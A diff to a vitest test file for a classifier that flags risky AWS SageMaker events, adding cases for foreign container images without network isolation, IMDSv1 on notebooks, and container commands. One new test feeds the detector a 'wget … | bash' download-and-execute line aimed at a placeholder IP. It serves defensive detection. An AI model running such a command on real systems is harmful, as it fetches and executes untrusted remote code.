@@ -2,12 +2,19 @@ import { describe, expect, it } from 'vitest';
 import { ACCOUNT, OTHER_ACCOUNT, b64, classify, keyUser, ofRule } from './helpers.js';
 // Records shared with each rule's fixtures (rules/<id>/fixtures.ts), whose near-misses rule-fixtures.test.ts checks.
 import { createEndpoint, lookAlikeCreateEndpoint } from '../../../src/core/classify/rules/scenario-event/fixtures.js';
-import { createOmittingBoth, createRootEnabled, updateEnablingRoot } from '../../../src/core/classify/rules/notebook-insecure-config/fixtures.js';
-import { lifecycleConfig as lcc, pipedDownloadBesideRedacted, reverseShellOnStart, undecodableOnly } from '../../../src/core/classify/rules/lifecycle-script-suspicious/fixtures.js';
+import { createOmittingBoth, createRootEnabled, updateAllowingImdsV1, updateEnablingRoot } from '../../../src/core/classify/rules/notebook-insecure-config/fixtures.js';
+import { lifecycleConfig as lcc, pipedDownloadBesideRedacted, processingJob, reverseShellOnStart, undecodableOnly } from '../../../src/core/classify/rules/lifecycle-script-suspicious/fixtures.js';
 import { domainUrl, notebookUrl } from '../../../src/core/classify/rules/presigned-url-access/fixtures.js';
 import { processingJobByKeyUser, role, trainingJobPassingRole } from '../../../src/core/classify/rules/execution-role-passed/fixtures.js';
 import { gpuEndpointConfig, gpuTuningJob, midSizeTraining, smallNotebook, veryLargeCpu } from '../../../src/core/classify/rules/large-instance-type/fixtures.js';
-import { foreignImage as image, foreignKey as key, trainingJobWithForeignImageAndKey, transformToForeignAccessPoint } from '../../../src/core/classify/rules/cross-account-artifact/fixtures.js';
+import {
+  foreignImage as image,
+  foreignKey as key,
+  foreignModelIsolated,
+  foreignModelNotIsolated,
+  trainingJobWithForeignImageAndKey,
+  transformToForeignAccessPoint,
+} from '../../../src/core/classify/rules/cross-account-artifact/fixtures.js';
 import { deleteOtherLogGroup, deleteSageMakerLogGroup, deniedDeleteTrail, shortRetentionOnEndpointLogs, stopLogging, trail } from '../../../src/core/classify/rules/log-tampering/fixtures.js';
 
 describe('scenario-event', () => {
@@ -38,14 +45,35 @@ describe('scenario-event', () => {
   });
 });
 
+describe('cross-account-artifact: a foreign image and network isolation', () => {
+  it('is high without network isolation and says the container reaches the internet', () => {
+    const [f] = ofRule(classify([foreignModelNotIsolated]), 'cross-account-artifact');
+    expect(f?.severity).toBe('high');
+    expect(f?.reason).toMatch(/no network isolation: the foreign container reaches the internet\)$/);
+    expect(f?.evidence.networkIsolation).toBe(false);
+  });
+
+  it('is medium with network isolation on (foreign code still, less reach)', () => {
+    const [f] = ofRule(classify([foreignModelIsolated]), 'cross-account-artifact');
+    expect(f?.severity).toBe('medium');
+    expect(f?.reason).toMatch(/\(network isolation on\)$/);
+    expect(f?.evidence.networkIsolation).toBe(true);
+  });
+
+  it('says nothing of isolation when no image is foreign (a key of another account)', () => {
+    const [f] = ofRule(classify([transformToForeignAccessPoint]), 'cross-account-artifact');
+    expect(f?.evidence.networkIsolation).toBeUndefined();
+  });
+});
+
 describe('notebook-insecure-config', () => {
   it('flags both settings enabled by default when a create request omits them', () => {
     const [f] = ofRule(classify([createOmittingBoth]), 'notebook-insecure-config');
     expect(f?.severity).toBe('medium');
     expect(f?.reason).toBe(
-      'CreateNotebookInstance with RootAccess Enabled (by default: not set in the request) and DirectInternetAccess Enabled (by default: not set in the request)',
+      'CreateNotebookInstance with RootAccess Enabled (by default: not set in the request) and DirectInternetAccess Enabled (by default: not set in the request) and no VPC (SubnetId not set)',
     );
-    expect(f?.evidence).toEqual({ rootAccess: 'Enabled', rootAccessByDefault: true, directInternetAccess: 'Enabled', directInternetAccessByDefault: true });
+    expect(f?.evidence).toEqual({ rootAccess: 'Enabled', rootAccessByDefault: true, directInternetAccess: 'Enabled', directInternetAccessByDefault: true, subnetIdMissing: true });
     expect(f?.resources).toEqual([`arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance/nb-1`]);
   });
 
@@ -53,6 +81,13 @@ describe('notebook-insecure-config', () => {
     const [f] = ofRule(classify([createRootEnabled]), 'notebook-insecure-config');
     expect(f?.reason).toBe('CreateNotebookInstance with RootAccess Enabled');
     expect(f?.evidence).toEqual({ rootAccess: 'Enabled', rootAccessByDefault: false });
+  });
+
+  it('flags IMDSv1 allowed on an update, and says nothing of the VPC an update cannot change', () => {
+    const [f] = ofRule(classify([updateAllowingImdsV1]), 'notebook-insecure-config');
+    expect(f?.reason).toBe('UpdateNotebookInstance with IMDSv1 allowed (MinimumInstanceMetadataServiceVersion 1)');
+    expect(f?.evidence).toEqual({ minimumInstanceMetadataServiceVersion: '1' });
+    expect(f?.severity).toBe('medium');
   });
 
   it('flags an update that enables root access', () => {
@@ -63,6 +98,12 @@ describe('notebook-insecure-config', () => {
 });
 
 describe('lifecycle-script-suspicious', () => {
+  it('reads a job container\'s entrypoint and arguments as one shell line', () => {
+    const [f] = ofRule(classify([processingJob(['bash', '-c'], ['wget -q http://198.51.100.7/x -O- | bash'])]), 'lifecycle-script-suspicious');
+    expect(f?.evidence).toMatchObject({ hook: 'container command', line: 'bash -c wget -q http://198.51.100.7/x -O- | bash', indicators: ['download and execute: piped to a shell'] });
+    expect(f?.severity).toBe('critical');
+  });
+
   it('decodes OnStart and shows the reverse-shell line and its hook', () => {
     const [f] = ofRule(classify([reverseShellOnStart]), 'lifecycle-script-suspicious');
     expect(f).toMatchObject({ severity: 'critical', confidence: 'strong', resources: ['lcc-1'] });
@@ -146,6 +187,7 @@ describe('cross-account-artifact', () => {
       artifacts: [`algorithmSpecification.trainingImage: ${image}`, `outputDataConfig.kmsKeyId: ${key}`],
       foreignAccounts: [OTHER_ACCOUNT],
       eventAccount: ACCOUNT,
+      networkIsolation: false,
     });
     expect(f?.resources).toEqual([image, key]);
     expect(f?.reason).toContain(`2 artifacts in account ${OTHER_ACCOUNT} (event account ${ACCOUNT})`);
